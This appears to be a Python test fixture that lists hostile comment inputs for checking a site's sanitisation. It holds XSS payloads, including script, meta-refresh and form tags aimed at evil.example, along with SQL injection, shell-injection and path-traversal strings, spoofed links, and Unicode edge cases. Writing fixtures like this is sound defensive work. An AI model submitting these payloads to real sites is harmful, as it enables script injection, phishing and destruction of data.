"""Which words does a commenter type who means harm, or whose language we forgot?

Whatever would run in a browser sets ``window.hit``. All of it is of our own making.
"""

# What a browser may take for markup, an attribute, a script or an address of one.
MARKUP = {
    "script": "<script>window.hit = 1</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "script in pieces": "<scr<script>ipt>window.hit = 1</scr</script>ipt>",
    "picture": '<img src="/no" onerror="window.hit = 1">',
    "picture without quotes": "<img/src=/no/onerror=window.hit=1//",
    "drawing": '<svg onload="window.hit = 1"><animate onbegin=window.hit=1></svg>',
    "formula": "<math><mtext><style><img src=/no onerror=window.hit=1></style></math>",
    "details": "<details open ontoggle=window.hit=1>More",
    "focus": "<input autofocus onfocus=window.hit=1>",
    "frame": "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "style": "<style>body { display: none }</style><p style=position:fixed;inset:0>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><button>Sign in</button></form>',
    "end of everything": "</div></article></li></ol></main></body></html>",
    "end of the field": "</textarea><script>window.hit = 1</script>",
    "end of a comment": "--><script>window.hit = 1</script><!--",
    "CDATA": "<![CDATA[<script>window.hit = 1</script>]]>",
    "entities": "&lt;script&gt; &#60;b&#62; &amp;amp; &#x0; &nbsp; &NotAnEntity;",
    "attribute, double": '" autofocus onfocus="window.hit = 1" x="',
    "attribute, single": "' onmouseover='window.hit = 1' x='",
    "attribute, none": "x onpointerenter=window.hit=1",
    "htmx": '<a hx-get="/" hx-trigger="load" hx-on:load="window.hit = 1">a</a>',
    "htmx out of band": '<div hx-swap-oob="innerHTML:body">Gone</div>',
    "ids of ours": '<p id="discussion" class="paywall">There is no wall</p>',
    "template": "{{ user.password }} {% load x %} {# gone #} ${7*7} #{7*7} <%= 7 %>",
    "format": "%s %(body)s {0} {body!r} %n%n%n \\x41 \\u0041 \\",
    "SQL": "'; DROP TABLE comments_comment; -- \"; SELECT pg_sleep(9)",
    "shell": "`reboot` $(reboot) | reboot; ../../../etc/passwd",
    "spreadsheet": '=HYPERLINK("https://evil.example/","Your refund")',
}

# What becomes a link must lead where it says that it leads.
LINKS = {
    "javascript": "javascript:window.hit=1",
    "javascript in disguise": "JaVa\tScRiPt:window.hit=1",
    "data": "data:text/html,<script>window.hit=1</script>",
    "link with a quote": 'https://example.com/"onmouseover="window.hit=1',
    "link with a tag": "https://example.com/<script>window.hit=1</script>",
    "link with a script": "https://example.com/?q=javascript:window.hit=1",
    "link with a name": "https://bank.example@evil.example/sign-in",
    "link without a host": "https:///evil.example https:// https://[ https://[::1",
    "look-alike host": "https://аррӏе.com/ https://xn--80ak6aa92e.com/",
    "long link": "https://example.com/" + "very/" * 400 + "?" + "a=1&" * 200,
    "host without a dot": "https://" + "a" * 300 + "/",
    "link and override": "https://example.com/\u202egpj.exe",
}

# What a reader's eye, or the page's layout, may stumble over.
LETTERS = {
    "override": "Before \u202eafter, and never closed",
    "isolates": "\u2066\u2067\u2068" * 30 + "never closed",
    "embeddings": "\u202a\u202b\u202d\u202e" * 15 + "deep",
    "lines and an override": "First \u202eturned\nSecond is not\n\nThird is not",
    "Arabic and Hebrew": "قالت: «نعم» ثم قالت שלום and went",
    "vertical": "ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ",
    "towers": "H" + "\u0300\u0316\u0321\u034a\u0355" * 60 + "e comes",
    "no space": "a" * 5000,
    "no space, wide": "漢" * 2000,
    "no space, emoji": "🌵" * 1500,
    "wide letters": "﷽" * 40 + "𒐫" * 40 + "⸻" * 40,
    "families": "👩‍👩‍👧‍👦 👨🏿‍🌾 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇲🇽🇲🇽🇲 ❤️‍🔥 1️⃣",
    "half a family": "👩‍ ‍👧 \ufe0f\u20e3 🏿",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164 there",
    "spaces": "a\u00a0b\u2003c\u3000d\u1680e\u205ff",
    "line separators": "one\u2028two\u2029three\u0085four",
    "many lines": "up\n" + "\n" * 400 + "down",
    "many paragraphs": "a\n\n" * 1600,
    "line ends": "one\r\ntwo\rthree\n\r\nfour",
    "controls": "a\x01b\x07c\x08d\x0be\x0cf\x1b[31mg\x7fh\x9bi",
    "nothing in it": "a\x00b\x00\x00c",
    "not characters": "\ufffe\uffff\U0001ffff\ufdd0 \ufffd",
    "private letters": "\ue000\uf8ff\U000f0000",
    "tags": "\U000e0001\U000e0041\U000e007f seen",
    "turned": "ʇxǝʇ uʍop ǝpᴉsdn",
    "like others": "Ꮮіkе tһе еdіtоr: ⅼ1Ⅰ О0 ﬁ ｆｕｌｌ",
    "small and large": "ß ẞ ı İ ŉ ǰ ΐ ﬀ ς σ",
    "long marks": "!" * 2500 + "?" * 2499,
    "quotes": ">" * 200 + " deep\n> > > again\n>\n>   \n>>>",
    "only a quote": "> she said\n> so",
    "not numbers": "undefined null NaN -0 1e309 None True [] {} 0x7fffffff",
}

TEXTS = MARKUP | LINKS | LETTERS
